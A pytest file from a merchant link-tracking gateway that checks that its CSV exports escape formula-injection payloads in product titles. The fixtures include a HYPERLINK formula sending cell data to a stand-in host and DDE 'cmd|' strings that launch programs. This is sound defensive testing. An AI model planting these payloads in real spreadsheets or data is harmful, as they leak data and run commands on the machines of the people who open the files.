"""CSV formula injection: no cell of any CSV the gateway writes opens as a formula.

A merchant's product title is the free text in the stats CSV, and marketing staff open those
files in Excel or WPS. The three writers (the API's ``format=csv``, the dashboard's
download, ``linkloop stats --csv``) all go through gateway/spreadsheet.py.
"""

from __future__ import annotations

import csv
import io
import subprocess
from typing import Any

import pytest

from gateway.appkeys import RECORDER, STORE
from gateway.spreadsheet import FORMULA_TRIGGERS, csv_text, spreadsheet_cell

from .conftest import DESKTOP_UA, LINKLOOP, PRODUCT, add_tenant, create_product
from .test_dashboard import Client, add_user, dash, login

__all__ = ["dash"]  # the dashboard's fixture, used here

CELLS: list[tuple[Any, Any]] = [
    # Text that would open as a formula gets a leading quote (OWASP CSV Injection).
    ('=HYPERLINK("https://evil.example.net/?d="&A1,"点我")',
     '\'=HYPERLINK("https://evil.example.net/?d="&A1,"点我")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("\n=1+2", "'\n=1+2"),
    ("\tplain", "'\tplain"),  # OWASP lists tab and CR themselves, whatever follows
    ("\rplain", "'\rplain"),
    ("  =1+2", "'  =1+2"),
    ("\u3000=1+2", "'\u3000=1+2"),
    ("＝1+2", "'＝1+2"),
    ("－50% 特价", "'－50% 特价"),
    ("-5", "'-5"),  # a title that looks like a number is still a title
    # Plain text, and the gateway's own numbers, pass as they are.
    ("明前龙井 250g", "明前龙井 250g"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (12, 12),
    (-5, -5),
    (-0.25, -0.25),
    (0.0, 0.0),
]


@pytest.mark.parametrize(("value", "written"), CELLS, ids=[ascii(c[0])[:30] for c in CELLS])
def test_a_cell_never_opens_as_a_formula(value: Any, written: Any) -> None:
    cell = spreadsheet_cell(value)
    assert cell == written and type(cell) is type(written)


def test_separators_and_quotes_inside_a_cell_start_no_new_cell() -> None:
    """A ``;`` is the separator where ``,`` is the decimal mark: quoted, it starts nothing."""
    text = csv_text(["title", "clicks", "rate"],
                    [['x;=1+2', 3, -0.5], ['a,"=1+2"', 0, None], ["=1", -7, 0.25]])
    assert text.splitlines() == [
        "title,clicks,rate",
        '"x;=1+2",3,-0.5',
        '"a,""=1+2""",0,""',
        "\"'=1\",-7,0.25",
    ]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1:] == [["x;=1+2", "3", "-0.5"], ['a,"=1+2"', "0", ""], ["'=1", "-7", "0.25"]]


# Titles a merchant could give through the API today, and two that older data may hold
# (a tab and a carriage return: titles are one plain line now, but the CSV must not trust it).
API_TITLES = ['=HYPERLINK("https://evil.example.net/?d="&A1,"点我")', "+1+1", "-1+1",
              "@SUM(1+1)*cmd|' /C calc'!A0"]
STORED_TITLES = ["\t=1+1", "\r=1+1"]


def _assert_inert(text: str, titles: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(titles), text
    for row in body:
        for name, cell in zip(header, row, strict=True):
            if cell[:1] in FORMULA_TRIGGERS:
                float(cell)  # only a figure may start with "-": it must be a number
                assert name not in ("title", "code"), (name, cell)
    assert sorted(r[header.index("title")] for r in body) == sorted("'" + t for t in titles)
    # Figures are bare numbers, not quoted text: they still sum in a spreadsheet.
    typed = csv.reader(io.StringIO(text.split("\n", 1)[1]), quoting=csv.QUOTE_NONNUMERIC)
    for row in typed:
        assert isinstance(row[header.index("product_id")], float)
        assert isinstance(row[header.index("clicks")], float) and row[header.index("clicks")] == 1
        assert isinstance(row[header.index("title")], str)


async def test_every_csv_writer_neutralises_titles(dash: Client,
                                                   cli_env: dict[str, str]) -> None:
    assert dash.app is not None
    acme = await add_tenant(dash, "acme")
    rival = await add_tenant(dash, "rival")
    codes = [(await create_product(dash, acme, {**PRODUCT, "title": t}))["code"]
             for t in API_TITLES]
    for n, title in enumerate(STORED_TITLES):
        stored = await dash.app[STORE].create_product(
            "acme", code=f"old-{n}", title=title, targets={"jd": {"sku": "100000000001"}},
            image_url=None, price=None)
        codes.append(stored.code)
    await create_product(dash, rival, {**PRODUCT, "title": "=1+1"})
    for code in codes:
        resp = await dash.get(f"/p/{code}", headers={"User-Agent": DESKTOP_UA})
        assert resp.status == 200
    await dash.app[RECORDER].flush()
    titles = API_TITLES + STORED_TITLES

    api = await dash.get("/api/stats?by=product&format=csv", headers=acme.marketing_auth)
    assert api.status == 200
    _assert_inert(await api.text(), titles)

    await add_user(dash, "acme", "anna@acme.cn")
    assert (await login(dash, "anna@acme.cn")).status == 303
    download = await dash.get("/dashboard/export.csv?by=product")
    assert download.status == 200
    _assert_inert(await download.text(), titles)

    # The CLI, a real process, reads the same SQLite file (its bytes: text mode would turn
    # the stored carriage return into a line feed on the way).
    cli = subprocess.run([*LINKLOOP, "stats", "--merchant", "acme", "--by", "product", "--csv"],
                         env=cli_env, capture_output=True, timeout=60)
    assert cli.returncode == 0, cli.stderr
    _assert_inert(cli.stdout.decode(), titles)
